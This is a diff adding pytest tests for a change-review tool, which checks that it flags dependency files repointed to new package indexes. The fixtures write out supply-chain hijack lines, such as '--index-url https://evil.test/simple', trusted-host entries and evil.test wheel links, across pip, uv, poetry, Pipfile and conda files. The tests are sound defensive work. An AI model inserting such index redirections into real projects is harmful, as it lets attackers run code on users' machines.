@@ -228,3 +228,88 @@ def test_a_test_that_moves_to_another_file_is_not_gone() -> None:
 def test_a_finding_names_its_line_and_what_it_would_hide() -> None:
     (finding,) = find_weakenings([Sides("a.py", b"x = 1\n", b"x = 1\ny = 2  # noqa: F841\n")])
     assert (finding.line, finding.message) == (2, "`# noqa: F841` would hide lint findings")
+
+
+USUAL = """\
+[[package]]
+source = { registry = "https://pypi.org/simple" }
+sdist = { url = "https://files.pythonhosted.org/a.tar.gz" }
+"""
+
+
+@pytest.mark.parametrize(
+    ("path", "old", "new", "where"),
+    [
+        pytest.param("requirements.txt", "a\n", "--index-url https://evil.test/simple\na\n", "evil.test", id="pip"),
+        pytest.param("requirements.txt", "a\n", "a\n-i https://evil.test/simple\n", "evil.test", id="-i"),
+        pytest.param("requirements/dev.in", "a\n", "a\n--find-links=./wheels\n", "./wheels", id="a folder"),
+        pytest.param("requirements.txt", "a\n", "--trusted-host evil.test\na\n", "evil.test", id="trusted"),
+        pytest.param("requirements.txt", "a\n", "a @ git+https://evil.test/a.git@v1\n", "evil.test/a", id="git"),
+        pytest.param("requirements.txt", "a\n", "a @ https://evil.test/a.whl\n", "evil.test", id="link"),
+        pytest.param(
+            "requirements.txt", "-i https://a.example\n", "-i http://a.example\n", "http://a.example", id="no TLS"
+        ),
+        pytest.param("pyproject.toml", "", '[[tool.uv.index]]\nurl = "https://evil.test/s"\n', "evil.test", id="uv"),
+        pytest.param("uv.toml", "", 'index-url = "https://evil.test/s"\n', "evil.test", id="uv.toml"),
+        pytest.param(
+            "pyproject.toml", "", '[[tool.poetry.source]]\nname = "x"\nurl = "https://evil.test"\n', "evil.test",
+            id="poetry",
+        ),
+        pytest.param("pyproject.toml", "", '[[tool.pdm.source]]\nurl = "https://evil.test"\n', "evil.test", id="pdm"),
+        pytest.param(
+            "pyproject.toml", "", '[project]\ndependencies = ["a @ https://evil.test/a.whl"]\n', "evil.test",
+            id="a dependency",
+        ),
+        pytest.param(
+            "pyproject.toml", "", '[tool.uv.sources]\na = { git = "https://evil.test/a" }\n', "evil.test", id="source"
+        ),
+        pytest.param("Pipfile", "", '[[source]]\nurl = "https://evil.test/simple"\n', "evil.test", id="Pipfile"),
+        pytest.param(
+            "Pipfile.lock", "{}", '{"_meta": {"sources": [{"url": "https://evil.test/s"}]}}', "evil.test",
+            id="Pipfile.lock",
+        ),
+        pytest.param(
+            "uv.lock", USUAL, USUAL.replace("pypi.org", "evil.test"), "evil.test",
+            id="uv.lock",
+        ),
+        pytest.param(
+            "uv.lock", USUAL, USUAL.replace("files.pythonhosted.org", "evil.test"),
+            "evil.test", id="one download",
+        ),
+        pytest.param(
+            "poetry.lock", "", '[[package]]\n[package.source]\ntype = "legacy"\nurl = "https://evil.test"\n',
+            "evil.test", id="poetry.lock",
+        ),
+        pytest.param("pylock.toml", "", '[[packages]]\nindex = "https://evil.test"\n', "evil.test", id="pylock"),
+        pytest.param("pip.conf", "", "[global]\nextra-index-url = https://evil.test\n", "evil.test", id="pip.conf"),
+        pytest.param("tox.ini", "", "[testenv]\ndeps = -i https://evil.test\n", "evil.test", id="tox"),
+        pytest.param("environment.yml", "", "channels:\n  - evil\n", "conda.anaconda.org.evil", id="conda"),
+    ],
+)  # fmt: skip
+def test_another_package_index_is_found(path: str, old: str, new: str, where: str) -> None:
+    findings = find_weakenings([Sides(path, old.encode(), new.encode())])
+    messages = [finding.message for finding in findings if finding.rule == "package-index"]
+    assert messages == [f"packages come from {where}, which was no source before"]
+
+
+@pytest.mark.parametrize(
+    ("path", "old", "new"),
+    [
+        pytest.param("requirements.txt", "a==1\n", "a==2\nb  # see https://b.example\n", id="other versions"),
+        pytest.param("uv.lock", "", USUAL, id="the usual index"),
+        pytest.param(
+            "pyproject.toml",
+            "",
+            '[project.urls]\nHomepage = "https://a.example"\n',
+            id="addresses for people",
+        ),
+        pytest.param(
+            "pyproject.toml", "", '[tool.towncrier]\nissue_format = "https://a.example"\n', id="other tools"
+        ),
+        pytest.param(
+            "requirements.txt", "-i https://a.example/s\n", "-i https://a.example/s\nb\n", id="as before"
+        ),
+    ],
+)
+def test_the_same_package_index_is_none(path: str, old: str, new: str) -> None:
+    assert "package-index" not in rules(path, old, new)
